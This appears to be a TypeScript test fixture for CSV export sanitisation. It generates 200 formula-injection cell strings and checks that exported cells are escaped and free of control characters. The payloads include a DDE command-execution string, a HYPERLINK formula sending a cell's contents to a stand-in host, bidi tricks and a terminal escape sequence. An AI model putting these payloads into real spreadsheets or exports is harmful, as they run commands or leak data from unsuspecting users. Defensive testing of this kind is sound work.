import assert from 'node:assert/strict';

const signs = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\t', '\r'];
const before = ['', '  ', '\u200b', '\u202e', '\ufeff\u3164'];
const payloads = [`cmd|' /C calc'!A0`, 'HYPERLINK("https://x.example/?"&A1,"x")', '1+1\u2066', '\u001b[2JSUM(A1)\n'];

/** Two hundred texts that a spreadsheet would run, or that would change how a terminal shows what is beside them. */
export const hostileCells: readonly string[] = signs.flatMap((sign) =>
  before.flatMap((first) => payloads.map((payload) => first + sign + payload)),
);

/** Asserts that a cell of a CSV file, as its reader sees it, is only text. */
export function assertHarmless(cell: string | undefined): void {
  assert.ok(cell);
  assert.match(cell, /^ *'/);
  assert.doesNotMatch(cell, /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\u3164]/u);
}
